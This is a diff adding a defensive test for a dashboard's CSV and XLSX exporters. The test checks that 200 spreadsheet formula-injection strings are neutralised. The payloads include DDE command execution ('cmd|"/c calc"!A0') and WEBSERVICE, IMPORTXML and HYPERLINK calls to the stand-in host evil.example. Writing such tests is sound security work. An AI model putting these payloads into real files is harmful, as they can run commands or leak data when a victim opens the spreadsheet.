@@ -1,5 +1,7 @@
+import { read } from '@e965/xlsx'
 import { expect, test } from 'vitest'
 import { writeCsv } from '../../dashboards/export/csv.ts'
+import { writeXlsx } from '../../dashboards/export/xlsx.ts'
 import { writeJson } from '../../dashboards/export/json.ts'
 
 const columns = [
@@ -57,4 +59,39 @@ test('JSON keeps absent apart from nought and leaves out what is no column', () 
     ],
   })
   expect(JSON.stringify(written)).not.toContain('secret')
+})
+
+const starts = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']
+const bodies = [
+  '1+1',
+  'SUM(A1:A9)',
+  'cmd|"/c calc"!A0',
+  'HYPERLINK("http://evil.example")',
+  'IMPORTXML("http://evil.example","//a")',
+  'WEBSERVICE("http://evil.example")',
+  '2+5+cmd|" /C calc"!A0',
+  '@SUM(1)',
+  '1e9',
+  '10%',
+]
+const hostile = starts.flatMap((start) => bodies.flatMap((body) => [`${start}${body}`, `${start} ${body}`]))
+
+test('200 hostile strings: no formula in CSV or XLSX, numbers and codes stay what they are', () => {
+  expect(new Set(hostile).size).toBe(200)
+  const rows = hostile.map((name) => ({ name, value: -8 }))
+  for (const excel of [false, true]) {
+    const lines = writeCsv(columns, rows, excel)
+      .replace(/^\uFEFF/u, '')
+      .split(/\r\n(?=['"])/u)
+    expect(lines).toHaveLength(201)
+    for (const line of lines.slice(1)) expect(line).toMatch(/^"?'/u)
+  }
+  const book = read(writeXlsx([{ name: '表', columns, rows }], []), { cellFormula: true })
+  const cells = Object.entries(book.Sheets['表'] ?? {}).filter(([name]) => !name.startsWith('!'))
+  expect(cells).toHaveLength(402)
+  for (const [name, cell] of cells) {
+    expect(cell, name).not.toHaveProperty('f')
+    expect(cell, name).toHaveProperty('t', name.startsWith('A') || name === 'B1' ? 's' : 'n')
+  }
+  expect(writeCsv(columns, [{ name: '990001101000', value: 10 }], true)).toContain('"\t990001101000",10')
 })
